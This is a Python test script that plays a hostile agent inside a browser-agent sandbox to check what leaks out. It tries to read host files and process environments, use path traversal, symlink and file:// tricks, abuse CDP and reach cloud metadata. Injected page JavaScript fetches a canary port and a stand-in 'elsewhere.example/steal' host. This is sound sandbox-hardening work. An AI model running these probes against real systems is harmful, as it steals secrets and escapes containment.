"""An agent that tries to read what it must not: run in the sandbox by test_hostile, with HTTP API, CDP and python.

Everything that it gets to see goes into met.json of the work folder, and each try into its own log.
"""

import asyncio
import json
import os
import socket
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

from websockets.asyncio.client import connect

WANTED = json.loads(os.environ["HOSTILE_WANTED"])
"""files of the host, port of a canary on the host's loopback, digest of another episode's picture."""
WORK = Path(os.environ["WEBDS_WORK"])
MET: dict[str, Any] = {}


def api(path: str, body: object = None) -> tuple[int, str]:
    data = None if body is None else json.dumps(body).encode()
    try:
        with urllib.request.urlopen(urllib.request.Request(os.environ["WEBDS_URL"] + path, data)) as answer:
            return answer.status, answer.read().decode("latin-1")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


def act(name: str, /, **args: object) -> Any:
    status, text = api("/act", {"name": name, "args": args})
    assert status == 200, text
    return json.loads(text)


def met(name: str, found: object) -> None:
    MET[name] = found
    print(name, json.dumps(found)[:300], flush=True)


def read(path: str) -> str:
    try:
        return Path(path).read_bytes()[:5000].decode("latin-1")
    except OSError as error:
        return type(error).__name__


def knock(host: str, port: int) -> str:
    try:
        with socket.create_connection((host, port), 2) as plug:
            plug.sendall(b"GET /stolen HTTP/1.0\r\n\r\n")
            return plug.recv(100).decode("latin-1")
    except OSError as error:
        return type(error).__name__


CODE = """
import os, glob, socket
for path in {files!r}:
    try: print(path, open(path, 'rb').read()[:2000])
    except OSError as error: print(path, type(error).__name__)
print(dict(os.environ), [open(p, 'rb').read() for p in glob.glob('/proc/[0-9]*/environ') if os.access(p, os.R_OK)])
try: socket.create_connection(('127.0.0.1', {port}), 2); print('CONNECTED')
except OSError as error: print(type(error).__name__)
"""


def by_itself() -> None:
    met("files", {path: read(path) for path in WANTED["files"]})
    met("environ", dict(os.environ))
    met("processes", {str(p): read(str(p)) for p in Path("/proc").glob("[0-9]*/environ")})
    met("folders", {place: sorted(map(str, Path(place).glob("*"))) for place in ("/", "/tmp", "/run/webds", "/opt")})
    met("canary", [knock(host, WANTED["port"]) for host in ("127.0.0.1", "10.0.2.2", "192.0.2.1")])
    met("sockets", read("/proc/net/unix"))


def over_http() -> None:
    met("other picture", api("/image/" + WANTED["digest"])[0])
    met("paths", [api(path)[0] for path in ("/image/..%2f..%2frun.json", "/../run.json", "/key", "/tasks")])
    for url in (
        "file:///etc/passwd",
        f"file://{WANTED['files'][0]}",
        "view-source:https://mini.test/",
        "chrome://version",
    ):
        then = act("goto", url=url)
        met(f"goto {url}", [then["refused"], then["text"][:2000]])
    met("preview", act("files", name="../evidence.json")["refused"])
    (WORK / "link").symlink_to(WANTED["files"][0])
    met("link", act("files", name="link")["text"][:500])
    met("python", act("python", code=CODE.format(**WANTED))["text"])
    met("fetch", act("goto", url="https://elsewhere.example/steal")["text"][:500])


async def over_cdp() -> None:
    with urllib.request.urlopen(os.environ["WEBDS_CDP"] + "/json/version") as answer:
        address = json.load(answer)["webSocketDebuggerUrl"]
    async with connect(address, proxy=None, max_size=None) as plug:
        number = 0

        async def call(method: str, session: str = "", **params: object) -> Any:
            nonlocal number
            number += 1
            said = {"id": number, "method": method, "params": params, **({"sessionId": session} if session else {})}
            await plug.send(json.dumps(said))
            async with asyncio.timeout(20):
                while (answer := json.loads(await plug.recv())).get("id") != number:
                    pass
            return answer.get("result") or answer["error"]

        targets = (await call("Target.getTargets"))["targetInfos"]
        met("targets", [target["url"] for target in targets])
        page = next(target for target in targets if target["type"] == "page")
        session = (await call("Target.attachToTarget", targetId=page["targetId"], flatten=True))["sessionId"]
        file = f"file://{WANTED['files'][0]}"
        for method, where, params in (
            ("Target.createBrowserContext", "", {"proxyServer": "direct://"}),
            ("Target.createTarget", "", {"url": file}),
            ("Page.navigate", session, {"url": file}),
            ("Page.navigate", session, {"url": " FILE:///etc/passwd"}),
            ("DOM.setFileInputFiles", session, {"files": WANTED["files"], "objectId": "1"}),
            ("Network.loadNetworkResource", session, {"url": file, "options": {}}),
            ("Browser.close", "", {}),
            ("Browser.getBrowserCommandLine", "", {}),
            ("Tethering.bind", "", {"port": 9999}),
            ("Target.attachToTarget", "", {"targetId": page["targetId"]}),
            ("Target.sendMessageToTarget", "", {"message": "{}", "targetId": page["targetId"]}),
        ):
            met(f"{method} {json.dumps(params)[:60]}", await call(method, where, **params))
        await call("Page.navigate", session, url="https://mini.test/table")
        await asyncio.sleep(1)
        script = """(async () => { const got = []; for (const url of %s) {
          try { got.push((await (await fetch(url, {mode: 'no-cors'})).text()).slice(0, 300)) }
          catch (e) { got.push(e.name) } }
          try { const w = window.open(%s); got.push(String(w && w.location.href)); } catch (e) { got.push(e.name) }
          return JSON.stringify(got) })()"""
        urls = [
            file,
            f"http://127.0.0.1:{WANTED['port']}/stolen",
            "https://elsewhere.example/",
            "http://169.254.169.254/",
        ]
        said = {"expression": script % (json.dumps(urls), json.dumps(file)), "awaitPromise": True}
        met("page", await call("Runtime.evaluate", session, **said))
    met("acted", api("/acted", {"name": "evaluate", "args": {}})[0])


by_itself()
over_http()
asyncio.run(over_cdp())
(WORK / "met.json").write_text(json.dumps(MET))
api("/submit", {"answer": "done"})
